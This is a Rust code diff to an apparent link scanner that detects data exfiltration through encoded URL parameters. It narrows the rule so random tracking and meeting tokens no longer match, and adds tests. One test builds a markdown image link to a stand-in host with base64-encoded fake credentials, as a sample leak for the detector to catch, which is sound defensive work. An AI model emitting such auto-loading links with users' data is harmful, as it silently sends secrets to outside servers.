@@ -139,7 +139,10 @@ fn judge(url: &str, auto_loads: bool) -> Option<(Severity, &'static str, String)
     None
 }
 
-/// A long base64 or hex value (data being carried out), not a word or an id.
+/// A long base64 or hex value that decodes to text or to another encoded
+/// layer (data being carried out), not a word or an id. A tracking link's
+/// or a meeting link's random token decodes to random bytes: it carries
+/// nothing of the reader's, since whoever wrote the link could not know it.
 fn looks_like_data(v: &str) -> bool {
     let v = percent_encoding::percent_decode_str(v).decode_utf8_lossy();
     let v = v.trim_end_matches('=');
@@ -149,7 +152,8 @@ fn looks_like_data(v: &str) -> bool {
     let b64 = v.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_'));
     let hex = v.bytes().all(|b| b.is_ascii_hexdigit());
     let mixed = v.bytes().any(|b| b.is_ascii_uppercase()) && v.bytes().any(|b| b.is_ascii_lowercase());
-    (b64 && mixed) || (hex && v.len() >= 32 && v.len() != 32 && v.len() != 40 && v.len() != 64)
+    let shaped = (b64 && mixed) || (hex && v.len() >= 32 && v.len() != 32 && v.len() != 40 && v.len() != 64);
+    shaped && !super::decode::layer(v).is_empty()
 }
 
 /// A hit for a link target taken from markup (no position of its own).
@@ -304,8 +308,25 @@ mod tests {
             "![img](https://camo.githubusercontent.com/8e8f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f/68747470733a2f2f)",
             "https://api.example.com/items?cursor=eyJpZCI6MTIzNDU2Nzg5MH0&limit=50",
             "https://example.com/commit/4f8e2b0c9d7a6e5f4c3b2a1908f7e6d5c4b3a291?diff=split",
+            // Tracking, RSVP and meeting links: random tokens under any name.
+            "https://click.mailer.example/ls/click?upn=NmPf3jqTJdmQp6tMUBH51nKyjfcKXoTGrbP15DGAnbpX2",
+            "![](https://click.mailer.example/wf/open?upn=Fl1MAU3eK925IPKnKUUcSKE3UYM7SdnNFjh3rat2pdNn)",
+            "https://calendar.example/rsvp?st=1&eid=sKOGBEzFhFC447IkS6as68zMI9wIQv5qbW77PjCO",
+            "https://meet.example/j/84512239901?pwd=BD9fJnqxh6hwGJ3jIJUXz1O2qKOcYtdf",
         ] {
             assert!(rules(t).is_empty(), "{t}: {:?}", rules(t));
+        }
+    }
+
+    /// A value that decodes to text or to JSON is data, whatever its name.
+    #[test]
+    fn values_that_decode_are_data() {
+        use base64::Engine as _;
+        for plain in ["user=alice@corp.example; password=hunter2; mfa=off", r#"{"session":"c2VjcmV0","user":"alice"}"#]
+        {
+            let v = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(plain);
+            let t = format!("![](https://img.example/p.png?upn={v})");
+            assert_eq!(rules(&t), ["exfiltration.data_in_url"], "{t}");
         }
     }
 }
